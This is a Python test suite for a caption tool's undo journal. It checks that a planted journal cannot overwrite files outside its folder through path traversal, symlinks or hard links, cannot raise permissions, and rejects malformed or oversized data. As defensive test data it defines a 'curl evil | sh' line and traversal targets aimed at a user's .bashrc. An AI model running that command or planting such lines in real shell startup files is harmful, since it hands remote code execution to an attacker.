"""A journal that came with a stranger's folder takes nothing back but in that folder."""

import json
import os
import sys
import zlib
from hashlib import sha256
from pathlib import Path

import pytest

from albums import draw_album, lines_of
from cutline.errors import WritingError
from cutline.metadata.undo_journal import Undone, undo
from cutline.metadata.writer import write

PRECIOUS, EVIL = b"alias ls='ls --color'\n", b"curl evil | sh\n"


def digest(content: bytes) -> str:
    return sha256(content).hexdigest()


@pytest.fixture
def home(tmp_path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_bytes(PRECIOUS)
    (folder / ".bashrc").chmod(0o644)
    return folder


@pytest.fixture
def album(tmp_path) -> Path:
    folder = tmp_path / "album"
    folder.mkdir()
    return folder


def plant(album: Path, target: object, *, mode: int = 0o4755, gone: bool = False, **more) -> Path:
    """A journal by which a file that holds PRECIOUS held EVIL before, or was not there."""
    kept = zlib.compress(EVIL)
    before = {
        "sha256": digest(EVIL),
        "prefix": 0,
        "suffix": 0,
        "blob": [0, len(kept)],
        "mode": mode,
        "mtime_ns": 0,
    }
    line = {
        "number": 1,
        "target": target,
        "picture": "dog.jpg",
        "after": digest(PRECIOUS),
        "before": None if gone else before | more,
        "date": "2026-11-23T10:12:00+00:00",
    }
    journal = album / "captions.undo.jsonl"
    journal.write_text(json.dumps(line) + "\n")
    journal.with_suffix(".blobs").write_bytes(kept)
    return journal


@pytest.mark.parametrize("gone", [True, False])
@pytest.mark.parametrize(
    "target",
    ["../home/.bashrc", "{home}/.bashrc", "sub/../../home/.bashrc", "link/.bashrc", "file"],
)
def test_what_lies_elsewhere_is_not_touched(target, gone, home, album):
    (album / "sub").mkdir()
    (album / "link").symlink_to(home)
    (album / "file").symlink_to(home / ".bashrc")
    journal = plant(album, target.format(home=home), gone=gone)

    [dry] = undo(journal)
    [event] = undo(journal, apply=True)

    assert (dry.action, event.action) == ("failed", "failed")
    assert "is a link" in event.sentence or "outside the journal's folder" in event.sentence
    assert (home / ".bashrc").read_bytes() == PRECIOUS
    assert (home / ".bashrc").stat().st_mode & 0o7777 == 0o644
    assert journal.exists()


def test_a_hard_link_into_the_album_is_refused(home, album):
    (album / "a.txt").hardlink_to(home / ".bashrc")

    [event] = undo(plant(album, "a.txt"), apply=True)

    assert (event.action, "has 2 names" in event.sentence) == ("failed", True)
    assert (home / ".bashrc").read_bytes() == PRECIOUS


@pytest.mark.parametrize(
    ("now", "then", "after"),
    [(0o644, 0o4755, 0o644), (0o640, 0o666, 0o640), (0o600, 0o7777, 0o600), (0o755, 0o640, 0o640)],
)
def test_rights_are_never_wider_than_they_are_and_no_file_runs_as_its_owner(
    now, then, after, album
):
    path = album / "a.txt"
    path.write_bytes(PRECIOUS)
    path.chmod(now)

    assert list(undo(plant(album, "a.txt", mode=then), apply=True)) == [Undone(path, "restored")]

    assert path.read_bytes() == EVIL
    assert path.stat().st_mode & 0o7777 == after


def test_what_does_not_hold_what_the_journal_says_stays(album):
    (album / "a.txt").write_bytes(b"mine")

    [event] = undo(plant(album, "a.txt", gone=True), apply=True)

    assert event.action == "kept"
    assert (album / "a.txt").read_bytes() == b"mine"


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() != 0, reason="only root gives away")
@pytest.mark.parametrize("name", ["captions.undo.jsonl", "captions.undo.blobs"])
def test_the_journal_of_another_user_is_refused(name, album):
    (album / "a.txt").write_bytes(PRECIOUS)
    journal = plant(album, "a.txt")
    os.chown(album / name, 12345, 12345)

    with pytest.raises(WritingError, match="belongs to another user"):
        list(undo(journal, apply=True))

    assert (album / "a.txt").read_bytes() == PRECIOUS


@pytest.mark.parametrize(
    "wrong",
    [
        {"blob": [0]}, {"blob": [-1, 5]}, {"blob": [0, 2**70]}, {"mode": "x"}, {"mode": -1},
        {"prefix": -1}, {"mtime_ns": 10**30}, {"mtime_ns": 1.5}, {"more": 1}, {"blob": None},
    ],
)  # fmt: skip
def test_lines_that_cutline_does_not_write_are_one_sentence(wrong, album):
    (album / "a.txt").write_bytes(PRECIOUS)

    with pytest.raises(WritingError, match="line 1: .*this is not an undo journal"):
        list(undo(plant(album, "a.txt", **wrong), apply=True))


@pytest.mark.parametrize("target", ["", "..", "a/..", "\0", 5, None, ["a"]])
def test_targets_that_are_no_files_are_one_sentence(target, album):
    with pytest.raises(WritingError, match="line 1: .*this is not an undo journal"):
        list(undo(plant(album, target), apply=True))


def test_what_swells_is_damaged(album):
    (album / "a.txt").write_bytes(PRECIOUS)
    kept = zlib.compress(bytes(10**8))
    journal = plant(album, "a.txt", blob=[0, len(kept)])
    journal.with_suffix(".blobs").write_bytes(kept)

    [event] = undo(journal, apply=True)

    assert (event.action, "is damaged" in event.sentence) == ("failed", True)


def test_pictures_elsewhere_are_taken_back_where_their_folder_is_named(run, tmp_path, monkeypatch):
    """Captions and journal in one folder, pictures in another: the sentence says what to do."""
    pictures, here = draw_album(tmp_path / "pictures"), tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    journal = Path("captions.undo.jsonl")
    assert len(list(write(lines_of(pictures), form="xmp", journal=journal, apply=True))) == 4

    code, _, err = run("undo", "--apply")
    assert (code, "4 failed" in err) == (1, True)
    assert f"`cutline undo captions.undo.jsonl {pictures}`" in err
    assert len(list(pictures.glob("*.xmp"))) == 4

    code, out, _ = run("undo", "captions.undo.jsonl", pictures, "--apply")
    assert (code, out.count("deleted\t")) == (0, 4)
    assert not list(pictures.glob("*.xmp"))
    assert list(here.iterdir()) == []
